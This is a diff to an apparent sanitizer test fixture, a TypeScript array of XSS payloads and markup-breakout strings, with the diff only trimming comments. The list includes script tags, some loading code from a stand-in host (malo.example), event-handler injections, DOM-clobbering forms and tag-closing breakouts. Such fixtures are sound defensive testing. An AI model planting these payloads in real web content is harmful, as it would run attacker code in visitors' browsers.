@@ -1,6 +1,4 @@
-/** XSS payloads and markup that breaks out of the article, by technique. */
 export const hostileArticles: string[] = [
-  // Plain scripts, and variant spellings of the tag.
   "<script>alert(1)</script>",
   "<SCRIPT SRC=//malo.example/x.js></SCRIPT>",
   "<ScRiPt\n>alert(1)</sCrIpT\t>",
@@ -14,7 +12,7 @@ export const hostileArticles: string[] = [
   "<script>/*</script><img src=x onerror=alert(1)>*/",
   "<script type=module>import '//malo.example/x.js'</script>",
   "<script><!--<script>alert(1)</script>--></script>",
-  // Event handlers on allowed and other elements.
+  // Event handlers.
   "<p onclick=alert(1)>a</p>",
   "<p/onmouseover=alert(1)//>a</p>",
   '<h2\nonfocus="alert(1)" tabindex=0 autofocus>a</h2>',
@@ -105,7 +103,6 @@ export const hostileArticles: string[] = [
   "<form id=x><input name=attributes><input name=childNodes></form><p>a",
   "<form name=body><input name=parentNode><img name=firstChild></form>",
   "<p id=__proto__ name=constructor>a</p>",
-  // Markup that closes or opens elements of the surrounding page.
   "</div></article></main><footer>a</footer>",
   "</p></li></ul><strong>a",
   "<p><strong><em>a",
